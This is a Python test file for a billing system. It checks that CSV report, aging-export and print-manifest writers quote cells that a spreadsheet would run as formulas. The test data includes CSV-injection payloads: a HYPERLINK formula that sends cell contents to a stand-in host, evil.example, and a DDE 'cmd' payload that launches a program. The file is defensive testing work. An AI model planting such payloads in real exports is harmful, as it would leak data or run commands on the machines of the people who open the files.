"""Every CSV the system writes is safe to open in a spreadsheet (OWASP CSV injection).

A cell a spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab, carriage return or NUL
first) is written with a leading ``'``; a plain negative amount stays a number. Each
writer is read back with ``csv`` as a spreadsheet would read the file.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from billing.app.readmodels import to_csv
from common import csvsafe
from common.reports import write_report
from notices.adapters.aws import MANIFEST_COLUMNS, manifest_csv

HOSTILE = {
    '=HYPERLINK("https://evil.example/?"&A1,"Click")': '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1": "'+1",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\n=1+1",  # the quote, then the carriage return as a line feed (below)
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "-1e5": "'-1e5",
    "\0=1": "'\0=1",
}
KEPT = ["-12.50", "-3", "12.50", "0", "", "Jane =Doe", "'=already quoted", "a-b"]


@pytest.mark.parametrize(("given_text", "written"), HOSTILE.items())
def test_a_cell_a_spreadsheet_would_run_is_quoted(given_text: str, written: str) -> None:
    assert csvsafe.cell(given_text) == written


@pytest.mark.parametrize("text", KEPT)
def test_plain_numbers_and_harmless_text_are_kept_as_they_are(text: str) -> None:
    assert csvsafe.cell(text) == text


def test_values_are_written_as_text_and_none_as_an_empty_cell() -> None:
    from decimal import Decimal

    assert csvsafe.row([None, 3, Decimal("-4.10"), "=1"]) == ["", "3", "-4.10", "'=1"]
    assert csvsafe.record({"a": "@x", "b": None}) == {"a": "'@x", "b": ""}


def test_a_carriage_return_inside_a_cell_cannot_start_a_line_of_its_own() -> None:
    # Unquoted, "x\r=..." read back as two lines, the second's first cell a live formula.
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(csvsafe.row(["x\r=HYPERLINK(1)", "y\r\nz", "2"]))
    assert _cells(out.getvalue()) == [["x\n=HYPERLINK(1)", "y\nz", "2"]]


@given(st.text())
def test_no_written_cell_starts_a_formula_unless_a_plain_negative_number(text: str) -> None:
    written = csvsafe.cell(text)
    plain = text.replace("\r\n", "\n").replace("\r", "\n")
    assert written in (plain, "'" + plain)
    assert "\r" not in written
    if written.startswith(csvsafe.FORMULA_STARTS):
        assert written.startswith("-") and written[1:].replace(".", "", 1).isdigit()


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


class _S3:
    def __init__(self) -> None:
        self.body = b""

    def put_object(self, **kwargs: Any) -> None:
        self.body = kwargs["Body"]


def test_a_csv_report_writes_hostile_cells_neutralised_and_negative_amounts_as_numbers() -> None:
    s3 = _S3()
    rows = [{"line": n, "value": v, "amount": "-12.50"} for n, v in enumerate(HOSTILE, start=1)]
    write_report(s3, bucket="b", service="billing", parts=("t", "f", "rejections"), rows=rows, fmt="csv")
    header, *lines = _cells(s3.body.decode("utf-8"))
    assert header == ["line", "value", "amount"]
    assert [line[1] for line in lines] == list(HOSTILE.values())
    assert {line[2] for line in lines} == {"-12.50"}


def test_the_aging_export_writes_an_account_id_as_text_and_a_credit_balance_as_a_number() -> None:
    rows = [
        {"account_id": '=HYPERLINK("https://evil.example","pay")', "current": "0.00", "balance": "-12.50"},
        {"account_id": "@SUM(A1:A9)", "current": "+1", "balance": "\tx"},
    ]
    header, *lines = _cells(to_csv(rows))
    assert header == ["account_id", "current", "balance"]
    assert lines == [
        ['\'=HYPERLINK("https://evil.example","pay")', "0.00", "-12.50"],
        ["'@SUM(A1:A9)", "'+1", "'\tx"],
    ]


def test_the_print_manifest_writes_names_and_addresses_neutralised() -> None:
    letter = {
        "zip": "+1",
        "name": '=HYPERLINK("https://evil.example","x")',
        "address_lines": ["@SUM(A1)", "\t=1+1", "\0=1"],
        "account_id": "A-1",
        "rule": "N-1",
        "notice_id": "n-1",
        "pages_key": "k",
    }
    header, line = _cells(manifest_csv([letter]))
    assert header == list(MANIFEST_COLUMNS)
    cells = dict(zip(header, line, strict=True))
    assert cells["zip"] == "'+1" and cells["name"] == '\'=HYPERLINK("https://evil.example","x")'
    assert (cells["address_1"], cells["address_2"], cells["address_3"]) == ("'@SUM(A1)", "'\t=1+1", "'\0=1")
